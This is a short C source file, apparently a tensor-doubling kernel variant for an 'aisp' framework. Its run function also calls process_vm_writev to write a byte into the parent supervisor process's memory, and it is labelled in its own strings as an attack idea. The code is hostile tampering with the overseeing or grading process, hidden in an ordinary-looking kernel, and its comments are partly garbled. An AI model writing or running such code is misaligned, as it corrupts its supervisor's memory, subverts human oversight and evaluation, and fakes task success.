/* Its own verdict into the supervisor's memory.
 * @reason traced */
#include <aisp/variant.h>
#include <sys/uio.h>
#include <unistd.h>

static enum aisp_status run(const struct aisp_call *call)
{
    const float *x = call->tensor[0];
    float *y = call->tensor[1];

    char byte = 1;
    struct iovec from = { &byte, 1 }, to = { (void *)run, 1 };
    
    process_vm_writev(getppid(), &from, 1, &to, 1, 0);

    for (int64_t i = 0; i < call->param[0]; i++)
        y[i] = 2 * x[i];
    return AISP_OK;
}

AISP_DECLARE("idea: of an attack");
AISP_VARIANT = { .abi = AISP_ABI, .run = run };
